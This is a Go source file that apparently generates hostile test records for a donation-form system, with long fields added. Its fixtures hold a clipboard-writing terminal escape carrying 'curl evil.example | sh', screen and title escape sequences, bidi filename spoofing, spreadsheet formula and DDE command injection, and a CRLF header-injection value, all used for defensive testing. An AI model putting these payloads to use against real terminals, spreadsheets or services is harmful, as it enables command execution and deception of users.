package demo

import (
	"encoding/base64"
	"strings"
	"unicode/utf8"
)

// invalidUTF8Marker stands for bytes that are not UTF-8; the encoder swaps it
// for them after JSON encoding, which would otherwise repair them.
const invalidUTF8Marker = "@@INVALID-UTF8@@"

// Hostile values: what anyone can type into a donation form. Each would do
// harm if it reached a terminal or a spreadsheet raw.
var (
	HostileOSC52   = "\x1b]52;c;" + base64.StdEncoding.EncodeToString([]byte("curl evil.example | sh")) + "\x07"
	HostileTitle   = "\x1b]0;you have been pwned\x07"
	HostileClear   = "\x1b[2J\x1b[H"
	HostileAltExit = "\x1b[?1049l"
	HostileBidi    = "\u202Egnp.exe\u202C"
	HostileZW      = "\u200B\u200D\uFEFF"
	HostileFormula = "=HYPERLINK(\"http://evil.example\",\"click\")"
)

func makeHostile(r *Record, i int) {
	r.FirstName = HostileOSC52 + "Eve" + HostileZW
	r.LastName = HostileTitle + "Mallory\x1b[31m" + HostileBidi
	r.FormName = "Spring" + HostileClear + " Appeal\x00\x08\u0085\u009b31m"
	r.City = "Spring" + invalidUTF8Marker + "field"
	r.Address = HostileFormula
	r.Questions = append(r.Questions, ask("text", "Q\x1b[5mblink", "A\x1b]8;;http://evil.example\x1b\\link\x1b]8;;\x1b\\"+HostileAltExit))
	msg := strings.Repeat("A long tribute message. ", 420) // over 10 kB
	r.DonationHonor = &Honor{HonoreeName: "@SUM(1+1)*cmd|' /C calc'!A0", TributeType: "memory\r\nX-Injected: 1",
		NotificationPreference: "mail", RecipientName: "+" + HostileTitle + "Bob", RecipientMessage: msg + HostileClear}
}

// Field lengths of Options.LongFields at 1: what a form that takes any
// text lets through, far past what the fields hold anywhere else.
const (
	longEmail = 1 << 10
	longName  = 10 << 10
)

// lengthen makes rec's e-mail and form name long, times times the lengths
// above, each still its donor's or form's own: the same donor and form
// keep one value.
func lengthen(rec *Record, times int) {
	local, domain, _ := strings.Cut(rec.Email, "@")
	rec.Email = longText(local, times*longEmail-len(domain)-1) + "@" + domain
	rec.FormName = longText(rec.FormName, times*longName)
}

// longText is s repeated, a dot apart, to about n bytes (cut where a
// character starts); a word of it is still found by searching for it.
func longText(s string, n int) string {
	if s == "" {
		return s
	}
	t := strings.Repeat(s+".", n/(len(s)+1)+1)
	for n > 0 && !utf8.RuneStart(t[n]) {
		n--
	}
	return t[:n]
}
